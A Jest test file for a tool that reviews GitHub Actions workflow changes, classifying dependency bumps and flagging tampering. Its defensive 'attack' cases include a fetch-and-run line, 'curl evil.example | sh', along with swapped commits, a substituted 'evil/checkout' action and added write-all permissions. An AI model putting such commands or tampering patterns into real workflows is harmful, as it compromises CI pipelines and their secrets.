import { describe, expect, test } from "@jest/globals";
import { toldOf } from "../told.ts";

type Case = [name: string, before: string, after: string, told: string[]];

const [A, B] = ["a".repeat(40), "b".repeat(40)];
const job = (uses: string, more = "") =>
  `on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ${uses}\n      - run: npm test\n${more}`;

describe("a workflow", () => {
  test.each<Case>([
    ["a major tag", job("actions/checkout@v3"), job("actions/checkout@v4"), ["actions/checkout v3 > v4 major direct"]],
    [
      "a whole version",
      job("actions/checkout@v4.1.0"),
      job("actions/checkout@v4.1.1"),
      ["actions/checkout v4.1.0 > v4.1.1 patch direct"],
    ],
    [
      "a tag that moves and one that does not cannot be compared",
      job("actions/checkout@v4"),
      job("actions/checkout@v4.1.1"),
      ["actions/checkout v4 > v4.1.1 unknown direct"],
    ],
    [
      "a branch cannot be compared",
      job("actions/checkout@v4"),
      job("actions/checkout@main"),
      ["actions/checkout v4 > main unknown direct"],
    ],
    [
      "a commit with its version beside it",
      job(`actions/checkout@${A} # v4.1.0`),
      job(`actions/checkout@${B} # v4.2.0`),
      ["actions/checkout v4.1.0 > v4.2.0 minor direct by comment"],
    ],
    [
      "Renovate's other way to write it",
      job(`actions/checkout@${A} # tag=v4.1.0`),
      job(`actions/checkout@${B} # tag=v4.1.1`),
      ["actions/checkout v4.1.0 > v4.1.1 patch direct by comment"],
    ],
    [
      "a commit alone",
      job(`actions/checkout@${A}`),
      job(`actions/checkout@${B}`),
      [`actions/checkout ${A} > ${B} digest direct`],
    ],
    [
      "attack: another commit for the same version",
      job(`actions/checkout@${A} # v4.1.0`),
      job(`actions/checkout@${B} # v4.1.0`),
      [`actions/checkout ${A} > ${B} digest direct by comment`],
    ],
    [
      "attack: the comment alone",
      job(`actions/checkout@${A} # v4.1.0`),
      job(`actions/checkout@${A} # v4.2.0`),
      [
        "actions/checkout v4.1.0 > v4.2.0 minor direct by comment",
        "other: the comment beside actions/checkout names another version for the same commit",
      ],
    ],
    [
      "a tag is pinned",
      job("actions/checkout@v4"),
      job(`actions/checkout@${A} # v4`),
      [`actions/checkout v4 > ${A} digest direct by comment`],
    ],
    [
      "two uses of one action are one",
      job("a/b@v1", "      - uses: a/b@v1\n"),
      job("a/b@v2", "      - uses: a/b@v2\n"),
      ["a/b v1 > v2 major direct"],
    ],
    [
      "an action in a folder, and a reusable workflow",
      job("a/b/init@v1", "  other:\n    uses: c/d/.github/workflows/x.yml@v1\n"),
      job("a/b/init@v2", "  other:\n    uses: c/d/.github/workflows/x.yml@v2\n"),
      ["a/b/init v1 > v2 major direct", "c/d/.github/workflows/x.yml v1 > v2 major direct"],
    ],
    [
      "images",
      job("docker://alpine:3.18", "    container: node:18\n    services:\n      db:\n        image: postgres:15.1\n"),
      job("docker://alpine:3.19", "    container: node:20\n    services:\n      db:\n        image: postgres:15.2\n"),
      ["alpine 3.18 > 3.19 minor direct", "postgres 15.1 > 15.2 minor direct", "node 18 > 20 major direct"],
    ],
    [
      "attack: a step beside the bump",
      job("a/b@v1"),
      job("a/b@v2").replace("npm test", "curl evil.example | sh"),
      ["a/b v1 > v2 major direct", "other: changes jobs.build.steps.step 2"],
    ],
    [
      "attack: more permissions",
      job("a/b@v1"),
      `permissions: write-all\n${job("a/b@v1")}`,
      ["other: adds permissions"],
    ],
    [
      "attack: another action in its place",
      job("actions/checkout@v4"),
      job("evil/checkout@v4"),
      [
        "actions/checkout v4 > none removed direct",
        "evil/checkout none > v4 added direct",
        "other: changes jobs.build.steps.step 1",
      ],
    ],
    [
      "attack: other inputs",
      job("a/b@v1\n        with: {token: x}"),
      job("a/b@v2\n        with: {token: y}"),
      ["a/b v1 > v2 major direct", "other: changes jobs.build.steps.step 1"],
    ],
    [
      "an image by expression is unknown",
      job("a/b@v1", `    container: \${{ inputs.image }}\n`),
      job("a/b@v1", `    container: \${{ inputs.other }}\n`),
      ["other: changes jobs.build.container", "unknown: an image in it is named by an expression"],
    ],
    ["a comment is nothing", job("a/b@v1"), `# hello\n${job("a/b@v1")}`, []],
    [
      "jobs that are no table",
      job("a/b@v1"),
      "jobs: [x]\n",
      ["unknown: a workflow cannot be read: it is not a table of keys and values"],
    ],
    ["a key twice", job("a/b@v1"), "a: 1\na: 2\n", ["unknown: a workflow cannot be read: it is not valid YAML"]],
  ])("%s", (_name, before, after, expected) => {
    expect(toldOf(".github/workflows/ci.yml", before, after)).toEqual(expected);
  });

  test("an action of this repository", () => {
    const action = (uses: string) => `runs:\n  using: composite\n  steps:\n    - uses: ${uses}\n`;
    expect(toldOf("tools/setup/action.yml", action("a/b@v1"), action("a/b@v2"))).toEqual(["a/b v1 > v2 major direct"]);
  });
});
